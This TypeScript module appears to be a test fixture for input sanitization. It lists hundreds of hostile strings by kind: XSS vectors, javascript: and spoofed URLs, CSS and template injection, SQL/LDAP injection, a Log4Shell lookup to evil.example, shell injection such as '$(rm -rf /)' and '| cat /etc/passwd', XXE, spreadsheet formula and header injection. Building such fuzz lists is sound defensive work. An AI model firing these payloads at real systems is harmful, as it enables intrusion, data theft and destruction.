// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what a template engine would take for one

/**
 * Text that means harm, in our own words: what markup, addresses, templates, writing systems, spreadsheets and headers
 * can be made to do. Whatever of it runs sets `__pwned`, opens a dialog or asks evil.example for something.
 */
export const kinds = [
  'script', 'handler', 'svg', 'mathml', 'frame', 'form', 'style', 'nested', 'template', 'address', 'direction', 'unseen',
  'unicode', 'long', 'unkeepable', 'formula', 'header', 'words', 'query', 'polyglot', 'other',
] as const // biome-ignore format: a list to read
export type Kind = (typeof kinds)[number]

const run = 'window.__pwned=1'
const away = 'https://evil.example/x'

const handlers = [
  'img src=x|onerror', 'body|onload', 'input autofocus|onfocus', 'details open|ontoggle', 'video src=x|onerror',
  'audio src=x|onloadstart', 'select autofocus|onfocus', 'textarea autofocus|onfocus', 'marquee|onstart', 'div|onpointerenter',
  'p|onanimationstart', 'a href=#|onclick', 'object data=x|onerror', 'iframe|onload', 'style|onload', 'form|onformdata',
  'keygen autofocus|onfocus', 'video|oncanplay', 'span tabindex=0|onfocusin', 'button|onbeforetoggle', 'xmp|onmouseover',
  'source|onerror', 'track|oncuechange', 'dialog open|onclose', 'meter|onwheel', 'li contenteditable|oninput',
] // biome-ignore format: a list to read
const quotes = ['', '"', "'", '`']
const events = handlers.flatMap((it, n) => {
  const [tag, event] = it.split('|') as [string, string]
  const quote = quotes[n % 4]
  return [
    `<${tag} ${event}=${quote}${run}${quote}>`,
    `"><${tag}/${event.toUpperCase()} = ${quote}${run}${quote} x`,
    `' ${event}='${run}`,
  ]
})

const schemes = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;',
  '&#106;avascript:', '&#x6A&#x61vascript:', 'javascript://evil.example/%0a', 'vbscript:', 'livescript:', 'view-source:',
  'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,<svg onload=', 'blob:', 'filesystem:',
  'file:///etc/passwd#', 'ftp://evil.example/', 'intent://evil.example#Intent;', 'mailto:x@evil.example?bcc=', 'tel:+1900#',
  'ws://evil.example/', '//evil.example/', '\\\\evil.example\\', 'https:evil.example/', 'http://evil.example\\@brand.test/',
  'https://brand.test@evil.example/', 'https://brand.test%00.evil.example/', 'about:blank#', 'chrome://settings#', 'jar:https:',
] // biome-ignore format: a list to read
const addresses = schemes.flatMap((it) => [it + run, `<a href="${it}${run}">x</a>`])

const own: Record<Kind, string[]> = {
  script: [
    `<script>${run}</script>`, `<SCRIPT SRC=${away}.js></SCRIPT>`, `<script/x>${run}</script/y>`, `<script\n>${run}</script\n>`,
    `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `--><script>${run}</script><!--`, `]]><script>${run}</script>`,
    `<script type=module>import "${away}"</script>`, `<script type=importmap>{"imports":{"react":"${away}"}}</script>`,
    `<noscript><p title="</noscript><script>${run}</script>">`, `<script async src=//evil.example/x.js>`, `<%00script>${run}</script>`,
    `<scr\u0000ipt>${run}</scr\u0000ipt>`, `\u003cscript\u003e${run}\u003c/script\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`,
    `%3Cscript%3E${run}%3C/script%3E`, `＜script＞${run}＜/script＞`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `</script><script>${run}//`,
  ],
  handler: events,
  svg: [
    `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><set attributeName=onmouseover to=${run}>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/>`,
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`, `<svg><image href=${away} onerror=${run}>`, `<svg><a href=javascript:${run}><text y=9>x`,
    `<svg><style>@import "${away}"</style>`, `<svg><title><a id="</title><img src=x onerror=${run}>">`, `<svg><desc><svg/onload=${run}>`,
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`, `<svg><feImage href=${away} />`, `<svg><metadata><script>${run}</script>`,
  ],
  mathml: [
    `<math href="javascript:${run}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<math><annotation-xml encoding="text/html"><script>${run}</script>`,
    `<math><mi xlink:href="data:x,<script>${run}</script>">`, `<math><maction actiontype="statusline#${away}">x</maction>`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><img src=x onerror=${run}>`,
  ],
  frame: [
    `<iframe src=javascript:${run}>`, `<iframe srcdoc="<img src=x onerror=parent.__pwned=1>">`, `<object data="data:text/html,<script>${run}</script>">`, `<embed src=${away}.swf>`,
    `<frameset onload=${run}><frame src=${away}>`, `<portal src=${away}>`, `<fencedframe src=${away}>`, `<base href=${away}/>`, `<meta http-equiv=refresh content="0;url=${away}">`,
    `<link rel=stylesheet href=${away}.css>`, `<link rel=prefetch href=${away}>`, `<img src=${away}.png>`, `<img srcset="${away}.png 2x">`, `<picture><source srcset=${away}>`, `<video poster=${away}>`, `<applet code=x archive=${away}>`,
  ],
  form: [
    `<form action=${away}><input name=password type=password><button>Sign in again</button></form>`, `<button formaction=javascript:${run}>x`, `<input type=image src=${away} formaction=${away}>`,
    `<isindex action=javascript:${run} type=image>`, `<form id=document><input name=cookie>`, `<a id=location><a id=location name=href href=x:1>`, `<input name=__proto__ value=x>`, `<output form=x oninvalid=${run}>`,
  ],
  style: [
    `<style>@import url(${away});</style>`, `<style>*{background:url(${away})}</style>`, `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
    `<p style="background:url(javascript:${run})">`, `<xss style="behavior:url(${away}.htc)">`, `<div style="width:expression(${run})">`, `</style><img src=x onerror=${run}>`,
    `<style>input[value^=a]{background:url(${away}/a)}</style>`, `<style>@font-face{font-family:x;src:url(${away})}body{font-family:x}</style>`, `<style>:root{--x:url(${away})}</style>`, `{}*{display:none}`, `color:red;position:fixed`,
  ],
  nested: [
    `<scr<script>ipt>${run}</scr</script>ipt>`, `<<script>script>${run}<</script>/script>`, `<im<img>g src=x onerror=${run}>`, `<a<b<c<d onclick=${run}>`, `<${'<'.repeat(200)}script>${run}`,
    `${'<b>'.repeat(300)}deep`, `${'<div>'.repeat(500)}`, `<table><td><script>${run}</script>`, `<p><p title='<!--'><img src=x onerror=${run}>-->`, `<!--<img src="--><img src=x onerror=${run}//">`, `<![CDATA[><img src=x onerror=${run}>]]>`, `<!DOCTYPE x [<!ENTITY y "z">]>`, `<%<!--'%><script>${run}</script -->`,
  ],
  template: [
    '{{constructor.constructor("window.__pwned=1")()}}', '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% raw %}x', '{{{x}}}', '{{who}}', '{{name}}', '$t(common:brand)', '$t(goneWrong)', '{{- name}}', '{{count}}',
    '[[${7*7}]]', '@{x}', '{{#if x}}y{{/if}}', '*{7*7}', '{php}x{/php}', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '$&', "$'", '$`', '$1', '$$', '%s %d %n %x', '{0}', '%(name)s', '$(rm -rf /)', '`id`',
  ],
  address: addresses,
  direction: [
    'invoice\u202egnp.exe', '\u202e\u202d\u202b\u202a\u202c', '\u2066\u2067\u2068x\u2069', 'שלום <script>', 'مرحبا بالعالم', 'evil.example/\u202emoc.dnarb', '\u200f\u200eabc\u061c', '\u202eaaaaaaaaaaaaaa', 'abc\u2067def\u2066ghi', `א${'ב'.repeat(200)}`, '؜a', 'a\u202cb\u202c\u202c',
  ],
  unseen: [
    '\u200b\u200c\u200d\ufeff\u2060', 'a\u00adb\u00adc', '\u3164', '\u115f\u1160', '\u2800', '\u180e', 'ad\u200bmin', '\ufff9x\ufffay\ufffb', 'a\u0085b', 'a\u2028b\u2029c', '\u00a0', '\u{e0001}\u{e0041}\u{e0042}', 'x\u{fe0f}\u{fe0e}', 'pass\u034fword', '\u000b\u000c', '\u001b[31mred\u001b[0m', 'a\bb\u007f', '\u0001\u0002\u0003\u0004\u0005\u0006\u0007',
  ],
  unicode: [
    'ﬁ ﷺ Å ẛ̣', 'Ω≈ç√∫˜µ', '社會科學院語學研究所', 'パーティーへ行かないか', '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👨🏽‍🚀❤️‍🔥', '🇫🇷🇪🇺🇦🇶', `h${'\u0337\u0322\u0358\u0335'.repeat(30)}elp`, 'ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ', '⒯⒣⒠', 'раypal', 'ａｄｍｉｎ', '𝓪𝓭𝓶𝓲𝓷', 'ı İ ß ſ', '\u{10ffff}\u{1fffe}', '\ufdd0\ufffe\uffff', '\u0c1c\u0c4d\u0c1e\u200c\u0c3e', 'ྀ', '𒐫𒈙', 'Ｌ＇ｅ́', 'e\u0301 é', '\ufffd\ufffc',
  ],
  long: [
    'a'.repeat(2_000), 'https://brand.test/'.repeat(60), 'ᚠ'.repeat(500), '.'.repeat(500), '/'.repeat(500), '-'.repeat(400), '\u0301'.repeat(300), '👨‍👩‍👧‍👦'.repeat(60), `${'x@'.repeat(200)}y`, 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(3), '﷽'.repeat(40), '\u{1242b}'.repeat(40), '&nbsp;'.repeat(80), `${'\t'.repeat(99)}x`, `${'　'.repeat(90)}x`, '𝕏'.repeat(300),
  ],
  unkeepable: [
    '\u0000', 'a\u0000b', '\ud800', 'a\udfffb', '\udc00\ud800', '\ud83d', `${'\u0000'.repeat(20)}x`, '<\u0000script>', '\ud800<script>\udfff', 'x\\u0000y', 'x%00y', '\\ud800', '\ud83d\u200d\ud83d',
  ],
  formula: [
    '=1+1', '=cmd|" /C calc"!A0', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '＝1+1', '＋1', '－1', '＠x', '=HYPERLINK("https://evil.example","x")', '=IMPORTXML("https://evil.example","//a")', '"=1+1', "'=1+1", ';=1+1', ',=1+1', '=1"x,"y', '\u200b=1+1', '\ufeff=1+1', '\u00a0=1+1', 'a\n=1+1', '=\u0000x',
  ],
  header: [
    'x\r\nBcc: all@evil.example', 'x\nX-Evil: 1', 'x\rSet-Cookie: a=b', 'x\r\n\r\n<html>', '=?utf-8?B?PHNjcmlwdD4=?=', 'x%0d%0aBcc:all@evil.example', 'a@b.test, all@evil.example', '"x" <all@evil.example>', '<all@evil.example>', 'x\u2028Bcc: y', 'x\u0085Bcc: y', '嘊嘍Set-Cookie:x', 'name"; filename="x.html', "x'; DROP", '.\r\nQUIT\r\n', 'x\u0000\r\n.', 'Content-Type: text/html', 'a;b=c;d*=utf-8\'\'x',
  ],
  words: ['null', 'undefined', 'NaN', 'true', '0', '-0', '[object Object]', 'Infinity', '1e309', '', ' ', '\\', '\\\\', '""', "''", '{}', '[]', 'null\u0000', '9007199254740993', '00:00', 'CON', 'NUL.txt', '../../etc/passwd', '..\\..\\x', '.', '..', '.htaccess', 'a/b\\c', 'desktop.ini', 'x.html', 'x.svg', '/dev/null', '~', '*'],
  query: ["'; drop table cases; --", "' or '1'='1", '1; select pg_sleep(9)', "\\'; --", '%', '_', '%%%', '*)(uid=*', '"; return true; var x="', '{"$gt":""}', '$where', 'x\\', "x' union select * from agents --", '${jndi:ldap://evil.example/x}', '() { :;}; echo x', '| cat /etc/passwd', '&& id', '<!--#exec cmd="id"-->', 'evenhand.workspace', '}}); --'],
  polyglot: [
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>`,
    `'">><marquee><img src=x onerror=${run}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${run}>`, `-->'"/></sCript><svg x=">" onload=(co\\u006efirm)\`\`>`,
    `"'--></style></script><img src=x onerror=${run}>{{7*7}}\${7*7}=1+1\r\nBcc:x@evil.example`, `\`;${run};//'-${run}-'"-${run}-"</script>`, `*/${run}/*`, `';${run}//\\';${run}//";${run}//\\";${run}//--></SCRIPT>">'><SCRIPT>${run}</SCRIPT>`,
  ],
  other: ['<', '>', '&', '&amp;', '&#0;', '&#x110000;', '<>', '< script >', '<plaintext>', '<xmp><x', '<listing>', '</body></html>', '<template><script>', '<slot name=x>', '<!', '<?', '</', '<a', '"', "'", '`', '&lt', '&#60', '\\x3cscript\\x3e', '\\74script\\76'],
} // biome-ignore format: a list to read

export const ownLines: readonly { kind: Kind; line: string }[] = kinds.flatMap((kind) =>
  own[kind].map((line) => ({ kind, line })),
)
